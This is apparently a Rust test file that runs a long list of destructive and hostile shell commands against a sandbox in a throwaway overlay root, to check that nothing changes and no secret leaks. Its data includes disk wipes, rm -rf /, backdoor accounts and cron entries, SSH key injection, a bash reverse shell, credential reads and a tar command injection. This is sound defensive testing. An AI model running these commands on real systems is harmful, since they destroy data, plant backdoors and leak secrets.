//! The second layer alone: the gate says allow to everything, and commands that destroy run in a throwaway root. Nothing may
//! change: no file, no process, no mount, no socket; and no secret may come out.
//!
//! The throwaway root is an overlay over the real one whose changes go to a tmpfs, in name spaces of its own (mounts, processes,
//! network, names, IPC), so that a hole in the sandbox harms the test alone. As a control, the same commands run there without
//! the sandbox, and do change things.

// A test that can't go on says so by panicking.
#![allow(clippy::unwrap_used)]

mod running;

use std::collections::BTreeMap;
use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use running::Ground;
use serde_json::{Value, json};
use watchkeeper_adapters::tool::Limits;

/// Stands in the throwaway root alone. Nothing of this file runs where it isn't.
const MARKER: &str = ".throwaway";

/// In every secret of the throwaway root.
const CANARY: &str = "canary-7c1f";

/// What runs, and whether it changes something if nothing holds it: in that root, by root, on its own processes and network.
/// What would reach beyond the name spaces (clock, modules, swap, the kernel's log) runs in the sandbox only.
const COMMANDS: &[(&str, bool)] = &[
    // Files
    ("rm -rf --no-preserve-root /etc /var /root /home /opt", true),
    ("rm -rf --no-preserve-root /", true),
    ("sh -c 'rm -rf /etc/*'", true),
    ("find /etc -delete", true),
    ("find /var/log -type f -exec rm '{}' +", true),
    ("find / -xdev -name '*.log' -exec truncate -s 0 '{}' +", true),
    ("shred -u /etc/passwd", true),
    ("truncate -s 0 /etc/passwd", true),
    ("dd if=/dev/zero of=/etc/passwd bs=1k count=1", true),
    ("dd if=/dev/zero of=/dev/sda bs=1k count=64", true),
    ("sh -c 'cat /dev/zero | head -c 4096 > /dev/sda'", true),
    ("mkfs.ext4 -F /dev/sda", true),
    ("mkswap -f /dev/sda", true),
    ("wipefs -a -f /dev/sda", false),
    ("chmod -R 777 /etc", true),
    ("chmod -R 000 /var", true),
    ("chmod 4755 /usr/bin/perl", true),
    ("chown -R 65534 /etc", true),
    ("chgrp -R 65534 /var/log", true),
    ("touch /etc/passwd", true),
    ("touch -d 2001-01-01 /var/log/victim.log", true),
    ("cp /bin/sh /tmp/rootshell", true),
    ("cp /etc/passwd /etc/passwd.bak", true),
    ("mv /etc/passwd /etc/passwd.gone", true),
    ("ln -s /etc/shadow /var/log/leak", true),
    ("ln /etc/shadow /var/log/leak2", true),
    ("mkdir -p /etc/evil", true),
    ("mknod /tmp/disk b 8 0", true),
    ("mkfifo /tmp/fifo", true),
    ("install -m 4755 /bin/sh /usr/local/bin/evil", true),
    ("tee /etc/cron.d/evil", true),
    ("sh -c 'echo \"* * * * * root id\" > /etc/cron.d/evil'", true),
    ("sh -c 'echo \"evil::0:0::/:/bin/sh\" >> /etc/passwd'", true),
    ("sh -c 'echo /tmp/evil.so > /etc/ld.so.preload'", true),
    ("sh -c 'mkdir -p /root/.ssh; echo key >> /root/.ssh/authorized_keys'", true),
    ("sh -c 'echo evil >> /root/.bashrc'", true),
    ("sh -c ': > /var/log/victim.log'", true),
    ("sed -i s/root/toor/ /etc/passwd", true),
    ("perl -i -pe s/root/toor/ /etc/group", true),
    ("perl -e 'unlink glob \"/etc/*\"'", true),
    ("python3 -c 'import shutil; shutil.rmtree(\"/etc\", True)'", true),
    ("python3 -c 'open(\"/etc/motd\", \"w\").write(\"x\")'", true),
    ("awk 'BEGIN { print \"x\" > \"/etc/evil\" }'", true),
    ("awk 'BEGIN { system(\"rm -rf /etc\") }'", true),
    ("tar -cf /tmp/all.tar /etc", true),
    ("tar -xf /var/tmp/evil.tar -C /etc", true),
    ("tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='touch /tmp/tar-evil'", true),
    ("split -b 1 /etc/hostname /tmp/split", true),
    ("sort -o /etc/passwd /etc/group", true),
    ("uniq /etc/group /etc/motd", true),
    ("xargs -a /etc/victims rm -rf", true),
    ("env rm -rf /etc", true),
    ("nohup rm -rf /etc", true),
    ("timeout 5 rm -rf /var/log", true),
    ("setfattr -n user.evil -v 1 /etc/passwd", false),
    ("chattr +i /etc/passwd", false),
    ("setfacl -m u:65534:rwx /etc/shadow", false),
    ("rsync --remove-source-files /etc/passwd /tmp/", false),
    ("git init /tmp/repo", true),
    ("sqlite3 /tmp/evil.db 'create table x(y)'", false),
    // Processes
    ("kill -9 -1", true),
    ("sh -c 'kill -9 $(pgrep -f sleep)'", true),
    ("pkill -9 sleep", true),
    ("killall -9 sleep", false),
    ("perl -e 'kill 9, 1..9000'", true),
    ("renice -n 19 -p 1", false),
    ("perl -e 'use POSIX; fork and exit; POSIX::setsid(); fork and exit; exec \"sleep\", \"4711\"'", true),
    ("sh -c 'sleep 4711 & sleep 4711 & true'", true),
    ("setsid -f sleep 4711", true),
    ("nohup sh -c 'sleep 4711 &'", true),
    ("perl -e 'for (1..300) { fork or exec \"sleep\", \"4711\" }'", true),
    ("strace -o /tmp/trace -p 1", false),
    ("gdb -p 1 --batch", false),
    // Mounts, names, the kernel
    ("mount -t tmpfs tmpfs /etc", true),
    ("mount --bind /tmp /etc", true),
    ("mount -o remount,ro /", false),
    ("umount -l /tmp", true),
    ("umount -a", false),
    ("unshare -Ur id", false),
    ("unshare -m mount -t tmpfs tmpfs /etc", false),
    ("nsenter -t 1 -a rm -rf /etc", false),
    ("chroot / rm -rf /etc", true),
    ("hostname evil", true),
    ("sysctl -w kernel.hostname=evil", false),
    ("sh -c 'echo evil > /proc/sys/kernel/hostname'", false),
    ("sh -c 'echo h > /proc/sysrq-trigger'", false),
    ("swapoff -a", false),
    ("date -s 2001-01-01", false),
    ("hwclock --systohc", false),
    ("modprobe dummy", false),
    ("insmod /tmp/evil.ko", false),
    ("dmesg -C", false),
    ("reboot -f", false),
    ("shutdown -h now", false),
    ("perl -e 'syscall(169, 0xfee1dead, 672274793, 0x1234567)'", false),
    ("ipcmk -M 4096", false),
    ("ipcrm -a", false),
    ("losetup -f /dev/sda", false),
    // The network
    ("ip link set lo down", true),
    ("ip addr add 10.1.2.3/32 dev lo", true),
    ("ip route add blackhole 10.0.0.0/8", true),
    ("ip link add evil type dummy", false),
    ("iptables -F", false),
    ("nft flush ruleset", false),
    ("ss -K state listening", false),
    ("curl -s --max-time 2 -d @/etc/hostname http://127.0.0.1:9999/", true),
    ("curl -s --max-time 2 -o /tmp/fetched file:///etc/hostname", true),
    ("curl -s --max-time 2 --unix-socket /run/victim.sock http://x/", true),
    ("curl -s --max-time 2 --dns-servers 127.0.0.1 http://canary.example/", false),
    ("wget -q -T 2 -O /tmp/fetched http://127.0.0.1:9999/", false),
    ("bash -c 'echo x > /dev/tcp/127.0.0.1/9999'", true),
    ("bash -c 'echo x > /dev/udp/127.0.0.1/9998'", true),
    ("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9999 0>&1'", true),
    ("perl -e 'use IO::Socket::INET; IO::Socket::INET->new(\"127.0.0.1:9999\")'", true),
    ("python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 9999))'", true),
    ("python3 -c 'import socket; socket.socket(1).connect(\"/run/victim.sock\")'", true),
    ("python3 -c 'import socket; socket.socket(2, 2).sendto(b\"x\", (\"127.0.0.1\", 9998))'", true),
    ("python3 -m http.server 9997", false),
    (
        "perl -e 'use IO::Socket::INET; IO::Socket::INET->new(Listen => 1, LocalPort => 9996) and sleep 60'",
        false,
    ),
    ("ssh -o BatchMode=yes root@127.0.0.1 id", false),
    ("nc -z 127.0.0.1 9999", false),
    // Secrets
    ("cat /etc/shadow", true),
    ("cat /root/.ssh/id_ed25519 /etc/ssl/private/tls.key /home/user/.env /etc/app/tls.key", true),
    ("grep -r canary /etc /root /home", true),
    ("grep -rh . /etc/app", true),
    ("head -c 1000 /etc/shadow", true),
    ("tac /etc/shadow", true),
    ("base64 -w0 /etc/app/tls.key", false),
    ("dd if=/etc/shadow", true),
    ("sh -c 'while read x; do echo $x; done < /etc/shadow'", true),
    ("tar -cO /etc/shadow", true),
    ("perl -pe 1 /etc/shadow", true),
    ("python3 -c 'print(open(\"/etc/shadow\").read())'", true),
    ("curl -s file:///etc/shadow", true),
    ("date -f /etc/shadow", true),
    ("sh -c 'cat /proc/*/environ'", true),
    ("strings -a /proc/1/environ", false),
    ("cat /proc/1/root/etc/shadow", true),
    ("diff /etc/shadow /dev/null", true),
];

/// What somebody agreed to, and beneath which path it may change attributes. The first word that is a path is what is named.
const AGREED: &[(&str, &str)] = &[
    ("chmod 600 /var/log/victim.log", "/var/log/victim.log"),
    ("chown 65534:65534 /etc/motd", "/etc/motd"),
    ("touch -d 2001-01-01 /var/log/victim.log", "/var/log/victim.log"),
    ("chmod -R 700 /etc/app", "/etc/app"),
    ("chmod 700 /etc/app", "/etc/app"),
    ("sh -c 'chmod 600 /etc/app/tls.key' /etc/app", ""),
    (
        "sh -c 'chmod -R 777 /etc /usr/share /var; chmod 600 /var/log/victim.log' /var/log/victim.log",
        "/var/log/victim.log",
    ),
    ("sh -c 'chown -R 65534 /etc /var /home /root' /var/log/victim.log", ""),
    ("sh -c 'touch /etc/passwd /run/new /home/user/.env' /var/log/victim.log", ""),
    ("sh -c 'for p in /proc/[0-9]*/root /proc/self/cwd; do chmod 777 $p/etc/passwd; done' /etc/motd", ""),
    ("sh -c 'mount -o remount,rw /etc/passwd; chmod 777 /etc/passwd' /etc/motd", ""),
    ("sh -c 'mount --bind /etc/motd /etc/passwd; chmod 777 /etc/passwd' /etc/motd", ""),
    ("sh -c 'umount /etc/app/tls.key; chmod 777 /etc/app/tls.key' /etc/app", ""),
    ("sh -c 'unshare -Urm chmod 777 /etc/passwd' /etc/motd", ""),
    (
        "sh -c 'echo x > /etc/motd; rm /etc/motd; mv /etc/motd /etc/m; ln /etc/motd /etc/n; cat /etc/shadow' /etc/motd",
        "",
    ),
    ("sh -c 'chmod 4755 /usr/local/bin/tool; chmod u+s,g+s /usr/local/bin/tool' /usr/local/bin/tool", ""),
];

#[test]
fn what_was_agreed_to_is_changed_and_nothing_beside_it() {
    let output = throwaway("agreed");
    let wrong: Vec<_> = output.lines().filter(|line| line.starts_with("WRONG")).collect();
    assert!(wrong.is_empty() && count(&output, "right ") == AGREED.len(), "{wrong:#?} {output}");
}

#[test]
fn nothing_changes() {
    let output = throwaway("sandboxed");
    let tried = count(&output, "tried ");
    assert!(tried >= 2 * COMMANDS.len() && COMMANDS.len() >= 60, "{tried} tried: {output}");
    assert!(!output.contains("CHANGED"), "{output}");
    let absent: usize = output.lines().find_map(|line| line.strip_prefix("absent ")?.parse().ok()).unwrap();
    let ran = COMMANDS.len() - absent / 2;
    assert!(ran >= 60, "only {ran} of the programs are on this machine");
    eprintln!(
        "{ran} commands (and {} whose program isn't here) in two profiles: nothing changed",
        absent / 2
    );
}

/// That each of these does change something when nothing holds it, so that the test above could fail.
#[test]
fn without_the_sandbox_they_do() {
    let output = throwaway("plain");
    let harmful = COMMANDS.iter().filter(|(_, harmful)| *harmful).count();
    let changed = output.lines().filter(|line| line.starts_with("CHANGED")).count();
    eprintln!("without the sandbox {changed} of {harmful} change something");
    let unchanged: Vec<_> = output.lines().filter(|line| line.starts_with("unchanged")).collect();
    assert!(changed * 20 >= harmful * 19, "{unchanged:#?}\n{}", &output[..output.len().min(3000)]);
}

/// By the numbers of another architecture any filter could be got round.
#[cfg(target_arch = "x86_64")]
#[test]
fn calls_by_another_architectures_numbers_end_the_process() {
    let output = throwaway("foreign");
    let (plain, sandboxed) = output.split_once("sandboxed: ").unwrap();
    assert!(plain.contains("i386 1"), "this kernel knows no i386, so the test says nothing: {output}");
    // 128 and SIGSYS.
    assert!(sandboxed.contains("exit_code: Some(159)") && !sandboxed.contains("i386 1"), "{output}");
}

fn count(output: &str, word: &str) -> usize {
    output.lines().filter(|line| line.starts_with(word)).count()
}

/// Runs `orchestrate` in name spaces of its own, and gives what it printed.
fn throwaway(way: &str) -> String {
    let spaces =
        ["--mount", "--net", "--pid", "--uts", "--ipc", "--fork", "--kill-child", "--propagation", "private"];
    let mut command = Command::new("unshare");
    command.args(spaces).arg(std::env::current_exe().unwrap());
    command.args(["orchestrate", "--exact", "--ignored", "--nocapture", "--test-threads=1"]);
    let output = command.env("THROWAWAY_WAY", way).stderr(Stdio::inherit()).output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success(), "{text}");
    text
}

/// Not a test of its own: what `throwaway` starts.
#[test]
#[ignore = "runs in name spaces that the other tests make"]
fn orchestrate() {
    let way = std::env::var("THROWAWAY_WAY").expect("this is started by the tests of this file");
    // Init of its own process name space, or it is not where it should be.
    assert_eq!(std::process::id(), 1, "not in name spaces of its own");
    // After what the test's own runner wrote on this line.
    println!();
    match way.as_str() {
        "sandboxed" => {
            // One root for all: nothing changes it.
            let root = Root::new();
            let mut absent = 0;
            for sandbox in [json!({}), json!({"netlink": true, "kernel_log": true, "list": ["/"]})] {
                for (command, _) in COMMANDS {
                    let (_, said) =
                        root.compare(command, &|inner| inner.env("THROWAWAY_SANDBOX", sandbox.to_string()));
                    // It was the sandbox that held, and not that nothing ran.
                    let ran = said.contains("Outcome {") && !said.contains("its sandbox failed");
                    assert!(ran, "{command}: {said}");
                    absent += usize::from(said.contains(": not found in "));
                    println!("tried {command}");
                }
            }
            println!("absent {absent}");
        }
        "agreed" => {
            let held = json!({"widen": ["attributes"]}).to_string();
            for (command, path) in AGREED {
                let root = Root::new();
                let (changes, said) = root.changes(command, &|inner| inner.env("THROWAWAY_SANDBOX", &held));
                let permitted = format!("/upper{path}");
                let ran = said.contains("Outcome {") && !said.contains("its sandbox failed");
                let there = |change: &String| change.contains(&permitted);
                let right = ran
                    && if path.is_empty() {
                        changes.is_empty()
                    } else {
                        !changes.is_empty() && changes.iter().all(there)
                    };
                println!("{} {command}: {changes:?} {said}", if right { "right" } else { "WRONG" });
            }
        }
        "foreign" => {
            let root = Root::new();
            let source = "#include <stdio.h>\nint main(void) { int own; __asm__ volatile(\"int $0x80\" : \"=a\"(own) : \"a\"(20)); \
                          printf(\"i386 %d\\n\", own > 0); return 0; }\n";
            fs::write(root.at("tmp/foreign.c"), source).unwrap();
            must("cc", &["-o", "/mnt/root/usr/local/bin/foreign", "/mnt/root/tmp/foreign.c"]);
            println!("plain: {}", root.run("foreign", &|inner| inner.env("THROWAWAY_PLAIN", "1")));
            println!("sandboxed: {}", root.run("foreign", &|inner| inner.env("THROWAWAY_SANDBOX", "{}")));
        }
        _ => {
            for (command, _) in COMMANDS.iter().filter(|(_, harmful)| *harmful) {
                let root = Root::new();
                if !root.compare(command, &|inner| inner.env("THROWAWAY_PLAIN", "1")).0 {
                    println!("unchanged by {command}");
                }
            }
        }
    }
}

/// Not a test of its own: one command, in the throwaway root.
#[test]
#[ignore = "runs in the root that the other tests make"]
fn inner() {
    assert!(Path::new("/").join(MARKER).exists(), "not in the throwaway root");
    let command = std::env::var("THROWAWAY_COMMAND").unwrap();
    if std::env::var("THROWAWAY_PLAIN").is_ok() {
        // What it leaves behind keeps the output open, so nobody waits for its end.
        let _ = Command::new("timeout")
            .args(["-s", "KILL", "3", "sh", "-c", &command])
            .stdin(Stdio::null())
            .status();
        return;
    }
    let sandbox: Value = serde_json::from_str(&std::env::var("THROWAWAY_SANDBOX").unwrap()).unwrap();
    let mut ground = Ground {
        limits: Limits { deadline: Duration::from_secs(3), ..Limits::default() },
        ..Ground::default()
    };
    ground.denied.extend([".env", "/etc/ssl/private", "/proc/**/environ"]);
    ground.options.limits.processes = 100;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let outcome = runtime.block_on(ground.run_with(&command, sandbox));
    println!("{outcome:?}");
}

/// The throwaway root, what lives in it, and who listens there.
struct Root {
    stage: PathBuf,
    victims: Vec<Child>,
    contacts: Arc<AtomicUsize>,
}

/// What this test is made of.
fn own() -> [PathBuf; 2] {
    [std::env::current_exe().unwrap(), running::LAUNCHER.into()]
}

fn root_of(stage: &Path, path: &Path) -> PathBuf {
    stage.join("root").join(path.strip_prefix("/").unwrap())
}

fn must(program: &str, arguments: &[&str]) {
    let status = Command::new(program).args(arguments).status().unwrap();
    assert!(status.success(), "{program} {arguments:?}");
}

/// Counts who comes to the ports of the throwaway network, which is one for all roots. They end with the name space.
fn listeners() -> Arc<AtomicUsize> {
    static MET: OnceLock<Arc<AtomicUsize>> = OnceLock::new();
    let listen = || {
        let met = Arc::<AtomicUsize>::default();
        let (tcp, udp) =
            (TcpListener::bind("127.0.0.1:9999").unwrap(), UdpSocket::bind("127.0.0.1:9998").unwrap());
        let counted = met.clone();
        std::thread::spawn(move || {
            tcp.incoming().for_each(|_| {
                counted.fetch_add(1, Ordering::SeqCst);
            })
        });
        let counted = met.clone();
        std::thread::spawn(move || {
            let mut buffer = [0; 64];
            while udp.recv(&mut buffer).is_ok() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        met
    };
    MET.get_or_init(listen).clone()
}

impl Root {
    fn new() -> Self {
        must("ip", &["link", "set", "lo", "up"]);
        let stage = PathBuf::from("/mnt");
        must("mount", &["-t", "tmpfs", "tmpfs", "/mnt"]);
        for folder in ["upper", "work", "root"] {
            fs::create_dir(stage.join(folder)).unwrap();
        }
        let layers = "lowerdir=/,upperdir=/mnt/upper,workdir=/mnt/work";
        must("mount", &["-t", "overlay", "overlay", "-o", layers, "/mnt/root"]);
        for folder in ["dev", "run", "tmp", "home", "var/log", "etc/app", "etc/ssl/private", "root/.ssh"] {
            fs::create_dir_all(stage.join("root").join(folder)).unwrap();
        }
        must("mount", &["-t", "proc", "proc", "/mnt/root/proc"]);
        must("mount", &["-t", "sysfs", "-o", "ro", "sysfs", "/mnt/root/sys"]);
        for folder in ["dev", "run", "tmp", "home"] {
            must("mount", &["-t", "tmpfs", "tmpfs", &format!("/mnt/root/{folder}")]);
        }
        // Wherever the tests were built: what was just mounted may hide it.
        for program in own() {
            let there = root_of(&stage, &program);
            fs::create_dir_all(there.parent().unwrap()).unwrap();
            if !there.exists() {
                fs::write(&there, "").unwrap();
            }
            let (program, there) = (program.to_str().unwrap(), there.to_str().unwrap());
            must("mount", &["--bind", program, there]);
            must("mount", &["-o", "remount,bind,ro", there]);
        }
        for (name, minor) in [("null", "3"), ("zero", "5"), ("random", "8"), ("urandom", "9")] {
            must("mknod", &["-m", "666", &format!("/mnt/root/dev/{name}"), "c", "1", minor]);
        }
        // The kernel's own switches are no one's to throw away.
        must("mount", &["--bind", "/mnt/root/proc/sys", "/mnt/root/proc/sys"]);
        must("mount", &["-o", "remount,bind,ro", "/mnt/root/proc/sys"]);
        let root = Self { stage, victims: Vec::new(), contacts: listeners() };
        root.fill();
        if Path::new("/mnt/root/proc/sysrq-trigger").exists() {
            must("mount", &["--bind", "/mnt/root/dev/sysrq", "/mnt/root/proc/sysrq-trigger"]);
        }
        must("hostname", &["throwaway"]);
        root.populate()
    }

    fn fill(&self) {
        let secret = format!("secret {CANARY}\n");
        fs::create_dir_all(self.at("home/user")).unwrap();
        for (path, content) in [
            (MARKER, ""),
            ("dev/sda", "a disk"),
            ("dev/sysrq", ""),
            ("etc/victims", "/etc/passwd"),
            ("etc/motd", "hello"),
            ("etc/shadow", &secret),
            ("etc/app/tls.key", &secret),
            ("etc/ssl/private/tls.key", &secret),
            ("root/.ssh/id_ed25519", &secret),
            ("home/user/.env", &secret),
            ("var/log/victim.log", "a line\n"),
            ("usr/local/bin/tool", "a program"),
        ] {
            fs::write(self.at(path), content).unwrap();
        }
        fs::write(self.at("dev/sda"), vec![b'd'; 1 << 20]).unwrap();
        must("chroot", &["/mnt/root", "tar", "-cf", "/var/tmp/evil.tar", "-C", "/etc", "motd", "victims"]);
    }

    fn populate(mut self) -> Self {
        for marker in ["9001", "9002"] {
            let mut victim = Command::new("chroot");
            victim.args(["/mnt/root", "sleep", marker]).env("SECRET", CANARY);
            self.victims.push(victim.spawn().unwrap());
        }
        let unix = UnixListener::bind(self.at("run/victim.sock")).unwrap();
        let met = self.contacts.clone();
        std::thread::spawn(move || {
            unix.incoming().for_each(|_| {
                met.fetch_add(1, Ordering::SeqCst);
            })
        });
        self
    }

    fn at(&self, path: &str) -> PathBuf {
        root_of(&self.stage, &Path::new("/").join(path))
    }

    /// Runs one command, and gives what it said.
    fn run(&self, command: &str, how: &dyn Fn(&mut Command) -> &mut Command) -> String {
        let mut inner = Command::new("chroot");
        inner.arg("/mnt/root").arg(std::env::current_exe().unwrap());
        inner.args(["inner", "--exact", "--ignored", "--nocapture"]);
        how(inner.env("THROWAWAY_COMMAND", command));
        // What outlives the command may keep its output open: it is read as far as it is there.
        let output = self.at("../output");
        let file = fs::File::create(&output).unwrap();
        let _ = inner.stdin(Stdio::null()).stdout(file.try_clone().unwrap()).stderr(file).status().unwrap();
        std::thread::sleep(Duration::from_millis(20));
        String::from_utf8_lossy(&fs::read(&output).unwrap()).into_owned()
    }

    /// Runs one command, says what it changed, and whether it did.
    fn compare(&self, command: &str, how: &dyn Fn(&mut Command) -> &mut Command) -> (bool, String) {
        let (mut changes, said) = self.changes(command, how);
        changes.truncate(4);
        if !changes.is_empty() {
            println!("CHANGED by {command}: {changes:?}: {}", said.chars().take(600).collect::<String>());
        }
        (!changes.is_empty(), said)
    }

    /// Runs one command, and gives what it changed and said.
    fn changes(&self, command: &str, how: &dyn Fn(&mut Command) -> &mut Command) -> (Vec<String>, String) {
        let before = self.state();
        let said = self.run(command, how);
        let after = self.state();
        let mut changes: Vec<String> = Vec::new();
        changes.extend(
            before
                .iter()
                .filter(|(key, value)| after.get(*key) != Some(value))
                .map(|(key, _)| format!("-{key}")),
        );
        changes.extend(
            after.iter().filter(|(key, _)| !before.contains_key(*key)).map(|(key, _)| format!("+{key}")),
        );
        if said.contains(CANARY) {
            changes.push("a secret came out".to_owned());
        }
        (changes, said)
    }

    /// Everything that a command could change, each with what it is like.
    fn state(&self) -> BTreeMap<String, String> {
        let (mut state, own) = (BTreeMap::new(), own().map(|program| root_of(&self.stage, &program)));
        for folder in ["upper", "root/dev", "root/run", "root/tmp", "root/home"] {
            walk(&self.stage.join(folder), &own, &mut state);
        }
        let read = |path: &str| fs::read_to_string(path).unwrap_or_default();
        // Those of the throwaway root: what others unmount elsewhere, the kernel takes away here, too.
        let mounts = read("/proc/self/mountinfo");
        let mounts =
            mounts.lines().filter(|line| line.split(' ').nth(4).is_some_and(|at| at.starts_with("/mnt")));
        state.insert("mounts".to_owned(), mounts.collect::<Vec<_>>().join("\n"));
        state.insert("hostname".to_owned(), read("/proc/sys/kernel/hostname"));
        for table in ["route", "fib_trie", "if_inet6", "tcp", "udp"] {
            // Closing connections come and go.
            let text = read(&format!("/proc/self/net/{table}"));
            let lines = text.lines().filter(|line| {
                !["tcp", "udp"].contains(&table) || line.contains(" 0A ") || line.contains(" 07 ")
            });
            let lines: Vec<String> =
                lines.map(|line| line.split_whitespace().take(4).collect::<Vec<_>>().join(" ")).collect();
            state.insert(format!("net/{table}"), lines.join("\n"));
        }
        state.insert("shared memory".to_owned(), read("/proc/sysvipc/shm").lines().count().to_string());
        state.insert("contacts".to_owned(), self.contacts.load(Ordering::SeqCst).to_string());
        // The processes of this name space, with their priority; what is dead and not waited for is dead.
        for entry in fs::read_dir(self.at("proc")).unwrap().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let stat = fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
            if name.parse::<u32>().is_ok() && !stat.is_empty() && !stat.contains(") Z") {
                let rest: Vec<&str> = stat.rsplit(')').next().unwrap().split_whitespace().collect();
                state.insert(format!("process {name}"), format!("{:?} {:?}", rest.get(15), rest.get(16)));
            }
        }
        state
    }
}

impl Drop for Root {
    fn drop(&mut self) {
        for victim in &mut self.victims {
            let _ = victim.kill();
            let _ = victim.wait();
        }
        let _ = Command::new("umount").args(["-R", "-l", "/mnt"]).status();
    }
}

fn walk(folder: &Path, without: &[PathBuf], state: &mut BTreeMap<String, String>) {
    if without.iter().any(|path| path == folder) {
        return;
    }
    let Ok(about) = folder.symlink_metadata() else { return };
    let mut content = String::new();
    if about.is_file() {
        let bytes = fs::read(folder).unwrap_or_default();
        use std::hash::{DefaultHasher, Hash, Hasher};
        let mut hasher = DefaultHasher::new();
        bytes.hash(&mut hasher);
        content = format!("{:x}", hasher.finish());
    }
    let like = (
        about.mode(),
        about.uid(),
        about.gid(),
        about.nlink(),
        about.mtime(),
        about.mtime_nsec(),
        about.ctime_nsec(),
    );
    // Of a folder the times change with what is in it, which is seen anyway.
    let like = if about.is_dir() {
        format!("{:?}", (about.mode(), about.uid(), about.gid()))
    } else {
        format!("{like:?} {content}")
    };
    state.insert(folder.display().to_string(), like);
    if about.is_dir() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            walk(&entry.path(), without, state);
        }
    }
}
